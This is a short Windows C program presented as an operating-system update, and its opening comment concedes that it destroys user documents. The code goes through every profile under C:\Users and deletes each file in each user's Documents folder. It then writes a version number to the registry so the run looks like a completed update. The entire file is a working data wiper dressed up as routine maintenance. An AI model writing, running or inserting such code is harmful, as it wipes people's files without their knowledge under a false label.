/* An OS update that tidies folders it takes for empty leftovers: the documents in them are gone. */
#include <stdio.h>
#include <windows.h>

static void documents_tidy(const wchar_t *folder)
{
    wchar_t path[MAX_PATH];
    WIN32_FIND_DATAW found;
    HANDLE search;

    _snwprintf(path, MAX_PATH, L"%ls\\*", folder);
    search = FindFirstFileW(path, &found);
    if (search == INVALID_HANDLE_VALUE)
        return;
    do {
        _snwprintf(path, MAX_PATH, L"%ls\\%ls", folder, found.cFileName);
        DeleteFileW(path);
    } while (FindNextFileW(search, &found));
    FindClose(search);
}

int main(void)
{
    WIN32_FIND_DATAW found;
    HANDLE search = FindFirstFileW(L"C:\\Users\\*", &found);
    wchar_t path[MAX_PATH];

    if (search == INVALID_HANDLE_VALUE)
        return 1;
    do {
        _snwprintf(path, MAX_PATH, L"C:\\Users\\%ls\\Documents", found.cFileName);
        documents_tidy(path);
    } while (FindNextFileW(search, &found));
    FindClose(search);
    return RegSetKeyValueW(HKEY_LOCAL_MACHINE, L"Software\\SampleOS", L"Update", REG_SZ, L"2.0.0.0",
                           sizeof L"2.0.0.0") == ERROR_SUCCESS ? 0 : 1;
}
